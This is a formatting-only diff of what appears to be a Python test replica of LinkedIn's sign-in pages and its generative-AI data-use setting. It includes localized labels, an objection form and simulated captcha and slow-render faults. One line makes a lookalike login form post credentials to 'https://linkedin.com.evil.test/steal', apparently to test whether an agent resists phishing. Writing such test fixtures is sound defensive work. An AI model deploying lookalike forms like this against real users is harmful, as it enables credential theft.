@@ -21,16 +21,36 @@ CHANGED_LABEL = "Allow data use for generative AI features"
 #: quotes them (no vendor source; docs/research/languages-2026-12.md §2.1 and §7): page language,
 #: page name, switch label, on/off words ("" where not found).
 LOCALIZED = {
-    "german": ("de", "Daten zur Verbesserung generativer KI",
-               "Ihre Daten zum Schulen von KI-Modellen verwenden, um Inhalte zu erstellen", ("Ein", "Aus")),
-    "french": ("fr", "Données pour l’amélioration de l’IA générative",
-               "Utiliser mes données pour entraîner des modèles d’IA de création de contenu", ("", "")),
-    "spanish": ("es", "Datos para mejorar la IA generativa",
-                "Usar mis datos para entrenar modelos de IA de generación de contenido", ("", "")),
-    "italian": ("it", "Dati per migliorare l’IA generativa",
-                "Usa i miei dati per addestrare i modelli di IA per la creazione di contenuti", ("Sì", "No")),
-    "portuguese": ("pt-BR", "Dados para aprimoramento da IA generativa",
-                   "Usar meus dados para treinar modelos de IA para criar conteúdos", ("", "")),
+    "german": (
+        "de",
+        "Daten zur Verbesserung generativer KI",
+        "Ihre Daten zum Schulen von KI-Modellen verwenden, um Inhalte zu erstellen",
+        ("Ein", "Aus"),
+    ),
+    "french": (
+        "fr",
+        "Données pour l’amélioration de l’IA générative",
+        "Utiliser mes données pour entraîner des modèles d’IA de création de contenu",
+        ("", ""),
+    ),
+    "spanish": (
+        "es",
+        "Datos para mejorar la IA generativa",
+        "Usar mis datos para entrenar modelos de IA de generación de contenido",
+        ("", ""),
+    ),
+    "italian": (
+        "it",
+        "Dati per migliorare l’IA generativa",
+        "Usa i miei dati per addestrare i modelli di IA per la creazione di contenuti",
+        ("Sì", "No"),
+    ),
+    "portuguese": (
+        "pt-BR",
+        "Dados para aprimoramento da IA generativa",
+        "Usar meus dados para treinar modelos de IA para criar conteúdos",
+        ("", ""),
+    ),
 }
 GERMAN_LABEL, FRENCH_LABEL = LOCALIZED["german"][2], LOCALIZED["french"][2]
 #: The language misbehaviour: a language the flow does not know (the text stays English: no
@@ -46,8 +66,12 @@ OBJECTION = ObjectionForm(
     reason_label="Describe your objection (optional)",
     received="We've received your request.",
     name_label="Full name",
-    choice=("Type of objection", "select", "Use of my data for AI training",
-            ("Direct marketing", "Profiling for personalised content", "Other")),
+    choice=(
+        "Type of objection",
+        "select",
+        "Use of my data for AI training",
+        ("Direct marketing", "Profiling for personalised content", "Other"),
+    ),
     unavailable="This form isn't available in your country or region.",
     remembers=False,
 )
@@ -77,7 +101,9 @@ class LinkedIn(Replica):
                 return redirect(req.query.get("session_redirect") or "/feed/")
             return self.login_page(req)
         user = self.session_user(req.cookies.get("li_at"))
-        answer = route(self, (OBJECTION,), req, user, "/uas/login?session_redirect=" + quote(req.url, safe=""))
+        answer = route(
+            self, (OBJECTION,), req, user, "/uas/login?session_redirect=" + quote(req.url, safe="")
+        )
         if answer is not None:
             return answer
         if req.path == "/checkpoint/lg/login-submit" and req.method == "POST":
@@ -94,15 +120,22 @@ class LinkedIn(Replica):
             if not self.signed_in(req):
                 return redirect("/uas/login?session_redirect=" + quote(req.url, safe=""))
             return self.setting_page(req)
-        if req.path == "/mypreferences/api/settings/data-for-ai-improvement" and req.method == "POST":
+        if (
+            req.path == "/mypreferences/api/settings/data-for-ai-improvement"
+            and req.method == "POST"
+        ):
             return self.save(req)
         return Response(status=404, body="<h1>Page not found</h1>")
 
     # --- sign-in -------------------------------------------------------------------------------
 
     def login_page(self, req: Request, *, error: str = "", lookalike: bool = False) -> Response:
-        redirect_to = html.escape(req.query.get("session_redirect", req.form.get("session_redirect", "")))
-        action = "https://linkedin.com.evil.test/steal" if lookalike else "/checkpoint/lg/login-submit"
+        redirect_to = html.escape(
+            req.query.get("session_redirect", req.form.get("session_redirect", ""))
+        )
+        action = (
+            "https://linkedin.com.evil.test/steal" if lookalike else "/checkpoint/lg/login-submit"
+        )
         body = f"""
 <h1>Sign in</h1><p>Stay updated on your professional world</p>
 <form method="post" action="{action}">
@@ -145,19 +178,28 @@ class LinkedIn(Replica):
         """email_pin: the checkpoint of eracle/OpenOutreach issue 796, a PIN sent by e-mail, in a
         field whose id no flow declares (only the engine's own recognition names it)."""
         token, record = challenge.start(self, "email_code", username, target)
-        field = challenge.widget(token, record, input_attrs='id="input__email_pin_v2" autocomplete="off"')
-        return page(f"""<h1>Let's do a quick security check</h1>
+        field = challenge.widget(
+            token, record, input_attrs='id="input__email_pin_v2" autocomplete="off"'
+        )
+        return page(
+            f"""<h1>Let's do a quick security check</h1>
 <p>We've sent a 6-digit verification code to your email address. Enter it below to sign in.</p>
-{field}""", title="Security Verification | LinkedIn",
-                    script=challenge.script(token) + "history.replaceState(null, '', '/checkpoint/challenge/AgEpin');")
+{field}""",
+            title="Security Verification | LinkedIn",
+            script=challenge.script(token)
+            + "history.replaceState(null, '', '/checkpoint/challenge/AgEpin');",
+        )
 
     def captcha_page(self, target: str, user: str | None, *, then: str = "sign_in") -> Response:
         """An Arkose checkpoint a person solves (its frame's button; kit/challenge.py)."""
         token, _ = challenge.start(self, "captcha", user, target, then=then)
-        return page(f"""<h1>Let's do a quick security check</h1><p>Help us keep LinkedIn safe.</p>
+        return page(
+            """<h1>Let's do a quick security check</h1><p>Help us keep LinkedIn safe.</p>
 <iframe title="Security verification" src="https://client-api.arkoselabs.com/fc/gc/"></iframe>""",
-                    title="Security Verification | LinkedIn",
-                    script=challenge.script(token) + "history.replaceState(null, '', '/checkpoint/challenge/AgCap');")
+            title="Security Verification | LinkedIn",
+            script=challenge.script(token)
+            + "history.replaceState(null, '', '/checkpoint/challenge/AgCap');",
+        )
 
     def challenge_passed(self, username: str | None, target: str) -> Response:
         return self.signed_in_redirect(target, username or self.state["username"])
@@ -181,7 +223,9 @@ class LinkedIn(Replica):
         username = req.form.get("who", "")
         ok = self.check_code(username, req.form.get("pin", ""), event="pin")
         if not ok:
-            return self.pin_page(req.form.get("target", "/feed/"), error="That code didn't work.", username=username)
+            return self.pin_page(
+                req.form.get("target", "/feed/"), error="That code didn't work.", username=username
+            )
         return self.signed_in_redirect(req.form.get("target") or "/feed/", username)
 
     def signed_in_redirect(self, target: str, username: str) -> Response:
@@ -194,7 +238,11 @@ class LinkedIn(Replica):
 
     def setting_page(self, req: Request) -> Response:
         user = self.session_user(req.cookies.get("li_at"))
-        if self.misbehaves("captcha_on_reload") and self.events("save") and not challenge.cleared(self, "captcha", req):
+        if (
+            self.misbehaves("captcha_on_reload")
+            and self.events("save")
+            and not challenge.cleared(self, "captcha", req)
+        ):
             return self.captcha_page(req.url, user, then="clear")
         if self.misbehaves("absent"):
             return page(
@@ -203,7 +251,12 @@ class LinkedIn(Replica):
                 title="Settings | LinkedIn",
             )
         on = self.account_settings(req)["generative-ai"]
-        lang, heading, label, words = "en", "Data for Generative AI Improvement", LABEL, ("On", "Off")
+        lang, heading, label, words = (
+            "en",
+            "Data for Generative AI Improvement",
+            LABEL,
+            ("On", "Off"),
+        )
         for misbehaviour, localized in LOCALIZED.items():
             if self.misbehaves(misbehaviour):
                 lang, heading, label, words = localized
@@ -232,7 +285,9 @@ class LinkedIn(Replica):
   <div id="toast" role="status"></div>
 </section>"""
         # Optimistic UI, as single-page apps do: the switch flips before the server answers.
-        script = f"const words = {json.dumps(words)};" + """
+        script = (
+            f"const words = {json.dumps(words)};"
+            + """
 const input = document.getElementById('toggle-ai');
 input.addEventListener('change', async () => {
   input.setAttribute('aria-checked', String(input.checked));
@@ -242,21 +297,29 @@ input.addEventListener('change', async () => {
     body: JSON.stringify({on: input.checked})});
   document.getElementById('toast').textContent = r.ok ? 'Saved' : 'Something went wrong. Try again later.';
 });"""
+        )
         if self.misbehaves("late_captcha") and not challenge.cleared(self, "captcha", req):
             return self.late_captcha(req, user, control, script, lang)
         if self.misbehaves("slow_render"):
             return late_page(control, title="Settings | LinkedIn", lang=lang, script=script)
         return page(control, title="Settings | LinkedIn", lang=lang, script=script)
 
-    def late_captcha(self, req: Request, user: str | None, control: str, script: str, lang: str) -> Response:
+    def late_captcha(
+        self, req: Request, user: str | None, control: str, script: str, lang: str
+    ) -> Response:
         """late_captcha: the page loads, an Arkose check covers it 1 s later, and the setting would
         render at 2 s (a challenge that appears after the settings page loaded)."""
         token, _ = challenge.start(self, "captcha", user, req.url, then="clear")
         cover = """<div id="cover" role="dialog" aria-modal="true" hidden
   style="position:fixed;inset:0;background:#fff;z-index:9"><h2>Let's do a quick security check</h2>
 <iframe title="Security verification" src="https://client-api.arkoselabs.com/fc/gc/"></iframe></div>"""
-        answer = late_page(control, title="Settings | LinkedIn", lang=lang, script=script, keep=cover)
-        late = challenge.script(token) + "setTimeout(() => { document.getElementById('cover').hidden = false; }, 1000);"
+        answer = late_page(
+            control, title="Settings | LinkedIn", lang=lang, script=script, keep=cover
+        )
+        late = (
+            challenge.script(token)
+            + "setTimeout(() => { document.getElementById('cover').hidden = false; }, 1000);"
+        )
         answer.body = answer.body.replace("</body>", f"<script>{late}</script></body>", 1)
         return answer
 
@@ -265,7 +328,9 @@ input.addEventListener('change', async () => {
             return Response(status=401, body="{}", content_type="application/json")
         value = bool((req.json or {}).get("on"))
         if not self.saved(self.account_settings(req), "generative-ai", value, on=value):
-            return Response(status=500, body='{"error":"internal"}', content_type="application/json")
+            return Response(
+                status=500, body='{"error":"internal"}', content_type="application/json"
+            )
         return Response(body='{"ok":true}', content_type="application/json")
 
 
